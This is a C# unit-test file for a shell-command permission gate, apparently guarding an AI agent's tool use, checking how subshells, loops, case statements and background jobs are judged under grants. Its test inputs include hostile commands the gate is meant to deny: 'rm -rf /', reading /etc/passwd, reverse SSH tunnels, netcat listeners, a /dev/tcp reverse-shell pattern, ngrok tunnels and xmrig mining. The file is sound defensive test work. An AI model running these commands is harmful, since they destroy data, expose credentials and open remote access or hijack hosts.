using ToolGate.Core.Actions;
using ToolGate.Core.Decisions;
using ToolGate.Core.Grants;
using ToolGate.Core.Shell;
using ToolGate.Core.Shell.Constructs;
using ToolGate.Core.Tests.Support;

namespace ToolGate.Core.Tests.Shell.Constructs;

/// <summary>
/// Compound statements, subshells and background jobs with and without a grant listing them (<see cref="ShellGrant.Constructs"/>):
/// denied as before without one; with one, allowed only when every command inside is, guardrails still critical.
/// </summary>
public class ShellConstructDecisionTests
{
    private const string Cwd = "/srv/project";

    private static readonly string[] Commands = ["echo *", "ls *", "head *", "test *", "true", "false", "grep *", "wc *", "sh *"];

    [Theory]
    [InlineData("(ls)", "unsupported shell construct: subshell '( … )'", Severity.Low)]
    [InlineData("{ ls; }", "unsupported shell construct: brace group '{ … }'", Severity.Low)]
    [InlineData("if test -f a; then ls; fi", "unsupported shell construct: compound statement 'if'", Severity.Low)]
    [InlineData("for x in a b; do ls; done", "unsupported shell construct: loop 'for'", Severity.Low)]
    [InlineData("while false; do ls; done", "unsupported shell construct: loop 'while'", Severity.Low)]
    [InlineData("until true; do ls; done", "unsupported shell construct: loop 'until'", Severity.Low)]
    [InlineData("case a in a) ls;; esac", "unsupported shell construct: case statement", Severity.Low)]
    [InlineData("ls & ls", "background job '&' (the command would outlive the call)", Severity.High)]
    public void Decide_ConstructWithoutAGrantListingIt_IsDeniedAsBefore(string command, string reason, Severity severity)
    {
        var verdict = Decide(command, TestGrants.Shell("g", Commands));

        Assert.False(verdict.IsAllowed);
        Assert.Equal(Rules.UnsupportedShellConstruct, verdict.Rule);
        Assert.Equal(reason, verdict.Reason);
        Assert.Equal(severity, verdict.Severity);
    }

    [Theory]
    [InlineData("(ls)", ShellConstructs.Subshell)]
    [InlineData("{ ls; }", ShellConstructs.Group)]
    [InlineData("if ls a; then ls; fi", ShellConstructs.If)]
    [InlineData("for x in a b; do ls \"$x\"; done", ShellConstructs.For)]
    [InlineData("while ls; do ls; done", ShellConstructs.While)]
    [InlineData("until ls; do ls; done", ShellConstructs.While)]
    [InlineData("case a in a) ls;; esac", ShellConstructs.Case)]
    [InlineData("ls & ls", ShellConstructs.Background)]
    public void Decide_ConstructListedByTheGrant_IsAllowedNamingIt(string command, string construct)
    {
        var grant = TestGrants.Shell("g", Commands, constructs: [construct]);

        var verdict = Decide(command, grant);

        Assert.True(verdict.IsAllowed, verdict.Reason);
        Assert.Equal("grant:g", verdict.Rule);
        Assert.Same(grant, verdict.Grant);
        Assert.Equal($"command matches 'ls *'; constructs {construct} granted by 'g'", verdict.Reason);
        Assert.NotNull(verdict.ShellPlan);
    }

    [Fact]
    public void Decide_ConstructsFromAnotherGrant_AllowNamesTheCommandGrantAndReasonTheConstructGrant()
    {
        var commands = TestGrants.Shell("cmds", Commands);
        var control = TestGrants.Shell("control", ["true"], constructs: [ShellConstructs.If, ShellConstructs.For]);

        var verdict = Decide("for x in a b; do if test -f \"$x\"; then head \"$x\"; else echo none; fi; done", commands, control);

        Assert.True(verdict.IsAllowed, verdict.Reason);
        Assert.Equal("grant:cmds", verdict.Rule);
        Assert.Same(commands, verdict.Grant);
        Assert.Equal("command matches 'test *'; constructs for, if granted by 'control'", verdict.Reason);
    }

    [Fact]
    public void Decide_ConstructsFromTwoGrants_NamesEachGrantWithItsConstructs()
    {
        var verdict = Decide("(ls) && { ls; }",
            TestGrants.Shell("a", Commands, constructs: [ShellConstructs.Subshell]), TestGrants.Shell("b", ["true"], constructs: [ShellConstructs.Group]));

        Assert.True(verdict.IsAllowed, verdict.Reason);
        Assert.Equal("command matches 'ls *'; constructs subshell granted by 'a'; group granted by 'b'", verdict.Reason);
    }

    [Fact]
    public void Decide_ExpiredConstructGrant_DoesNotPermitTheConstruct()
    {
        var verdict = Decide("(ls)", TestGrants.Shell("g", Commands),
            TestGrants.Shell("old", ["true"], constructs: [ShellConstructs.Subshell], expiresAt: TestGrants.Now.AddSeconds(-1)));

        Assert.False(verdict.IsAllowed);
        Assert.Equal("unsupported shell construct: subshell '( … )'", verdict.Reason);
    }

    [Fact]
    public void Decide_OneConstructGranted_DoesNotPermitAnother()
    {
        var verdict = Decide("if true; then while false; do ls; done; fi", TestGrants.Shell("g", Commands, constructs: [ShellConstructs.If]));

        Assert.False(verdict.IsAllowed);
        Assert.Equal("unsupported shell construct: loop 'while'", verdict.Reason);
    }

    [Theory]
    [InlineData("if true; then ls; else rm -rf /; fi", "no shell grant allows 'rm' with these arguments")]
    [InlineData("if rm x; then ls; fi", "no shell grant allows 'rm' with these arguments")]
    [InlineData("while ls; do cat /etc/passwd; done", "no shell grant allows 'cat' with these arguments")]
    [InlineData("(ls; rm x)", "no shell grant allows 'rm' with these arguments")]
    [InlineData("rm x &", "no shell grant allows 'rm' with these arguments")]
    [InlineData("for p in ls rm; do $p -l; done", "no shell grant allows 'rm' with these arguments")]
    public void Decide_GrantedConstruct_StillNeedsEveryCommandInsideAllowed(string command, string reason)
    {
        var verdict = Decide(command, TestGrants.Shell("g", Commands, constructs: [.. ShellConstructs.All]));

        Assert.False(verdict.IsAllowed);
        Assert.Equal(Rules.DefaultDeny, verdict.Rule);
        Assert.Equal(reason, verdict.Reason);
    }

    [Theory]
    [InlineData("if true; then ssh -R 9000:127.0.0.1:22 a@198.51.100.7; fi", "guardrail:shell.tunnel")]
    [InlineData("if xmrig -o pool:3333; then ls; fi", "guardrail:shell.miner")]
    [InlineData("for h in 198.51.100.7 203.0.113.9; do ssh -R 9000:127.0.0.1:22 \"a@$h\"; done", "guardrail:shell.tunnel")]
    [InlineData("for p in ls xmrig; do \"$p\" -o pool:3333; done", "guardrail:shell.miner")]
    [InlineData("(ls; nc -lvp 9001)", "guardrail:shell.tunnel")]
    [InlineData("{ ls; cat /dev/tcp/198.51.100.7/80; }", "guardrail:shell.reverse-shell")]
    [InlineData("while true; do xmrig; done", "guardrail:shell.miner")]
    [InlineData("ngrok tcp 22 &", "guardrail:shell.tunnel")]
    [InlineData("case a in a) ls;; b) xmrig;; esac", "guardrail:shell.miner")]
    [InlineData("case $x in a) ls;; b) xmrig;; esac", "guardrail:shell.miner")]
    [InlineData("for x in a; do echo $y; ssh -R 1:a:2 h; done", "guardrail:shell.tunnel")]
    public void Decide_GuardrailInsideAGrantedConstruct_IsStillCritical(string command, string rule)
    {
        var verdict = Decide(command, TestGrants.Shell("wide", [.. Commands, "ssh *", "xmrig *", "nc *", "cat *", "ngrok *"], constructs: [.. ShellConstructs.All]));

        Assert.False(verdict.IsAllowed);
        Assert.Equal(rule, verdict.Rule);
        Assert.Equal(Severity.Critical, verdict.Severity);
    }

    [Fact]
    public void Decide_BackgroundInsideAShellScript_IsDeniedEvenWhenGranted()
    {
        var verdict = Decide("sh -c 'ls &'", TestGrants.Shell("g", Commands, constructs: [ShellConstructs.Background]));

        Assert.False(verdict.IsAllowed);
        Assert.Equal("background job '&' inside a shell's script (the shell would leave it running after the call)", verdict.Reason);
        Assert.Equal(Severity.High, verdict.Severity);
    }

    [Fact]
    public void Decide_IfInsideAShellScript_IsJudgedLikeOneOnTheLine()
    {
        var grant = TestGrants.Shell("g", Commands, constructs: [ShellConstructs.If]);

        Assert.True(Decide("sh -c 'if true; then ls; fi'", grant).IsAllowed);
        Assert.Equal("no shell grant allows 'rm' with these arguments", Decide("sh -c 'if true; then rm x; fi'", grant).Reason);
    }

    [Fact]
    public void Decide_CaseInsideAShellScript_JudgesEveryArmSinceTheShellDecides()
    {
        var grant = TestGrants.Shell("g", Commands, constructs: [ShellConstructs.Case]);

        Assert.True(Decide("case a in a) ls;; b) rm x;; esac", grant).IsAllowed);
        Assert.Equal("no shell grant allows 'rm' with these arguments", Decide("sh -c 'case a in a) ls;; b) rm x;; esac'", grant).Reason);
    }

    [Theory]
    [InlineData("{ ls; } > out.txt", "redirection '> out.txt' writes a file")]
    [InlineData("{ ls; } < notes.txt", "the command line uses a redirection the tool cannot run exactly without a shell")]
    [InlineData("f() { ls; }; f", "function definition 'f' (a function can stand in for any command)")]
    [InlineData("if [[ -f a ]]; then ls; fi", "'[[' command")]
    [InlineData("for x in a; do eval ls; done", "shell builtin 'eval' runs text as code or changes how later commands run")]
    [InlineData("while true; do break; done", "shell builtin 'break' runs text as code or changes how later commands run")]
    [InlineData("(A=1 ls)", "environment assignment 'A=' changes how the command runs")]
    [InlineData("if ls $(id); then ls; fi", "unsupported shell construct: command substitution '$(id)'")]
    public void Decide_WhatStaysDeniedInsideAGrantedConstruct_IsDeniedAsBefore(string command, string reason)
    {
        var verdict = Decide(command, TestGrants.Shell("g", Commands, constructs: [.. ShellConstructs.All]));

        Assert.False(verdict.IsAllowed);
        Assert.Equal(reason, verdict.Reason);
    }

    [Fact]
    public void Decide_CompoundWithOutputToDevNull_IsAllowedAndPlanned()
    {
        var verdict = Decide("{ ls; ls -z; } 2>/dev/null", TestGrants.Shell("g", Commands, constructs: [ShellConstructs.Group]));

        Assert.True(verdict.IsAllowed, verdict.Reason);
        Assert.Equal("{ ls; ls -z } 2>null", PlanText.Of(verdict.ShellPlan!));
    }

    [Theory]
    [InlineData("case a in a) ls;; b) rm x;; esac", "no shell grant allows 'rm' with these arguments")]
    [InlineData("ls & ls", "background job '&' inside a shell's script (the shell would leave it running after the call)")]
    public void DecideShellText_WhatTheShellSettlesAtRunTime_IsJudgedAsInsideShC(string command, string reason)
    {
        var policy = ShellPolicy.Compile([TestGrants.Shell("g", Commands, constructs: [.. ShellConstructs.All])]);

        var asPlan = ShellEvaluator.Decide(new ShellAction(command, Cwd), policy, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);
        var asText = ShellEvaluator.DecideShellText(new ShellAction(command, Cwd), policy, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);

        Assert.True(asPlan.IsAllowed, asPlan.Reason);
        Assert.False(asText.IsAllowed);
        Assert.Equal(reason, asText.Reason);
    }

    [Theory]
    [InlineData("ls -l | wc -l && echo done")]
    [InlineData("if ls; then echo yes; fi")]
    [InlineData("for f in a b; do wc -l \"$f\"; done")]
    public void DecideShellText_AnythingElse_IsDecidedAsDecideDoes(string command)
    {
        var policy = ShellPolicy.Compile([TestGrants.Shell("g", Commands, constructs: [.. ShellConstructs.All])]);

        var asText = ShellEvaluator.DecideShellText(new ShellAction(command, Cwd), policy, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);

        var asPlan = ShellEvaluator.Decide(new ShellAction(command, Cwd), policy, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);
        Assert.True(asText.IsAllowed, asText.Reason);
        Assert.Equal((asPlan.Outcome, asPlan.Reason, asPlan.Rule, asPlan.Severity), (asText.Outcome, asText.Reason, asText.Rule, asText.Severity));
    }

    internal static Verdict Decide(string command, params ShellGrant[] grants) =>
        ShellEvaluator.Decide(new ShellAction(command, Cwd), ShellPolicy.Compile(grants), TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);
}
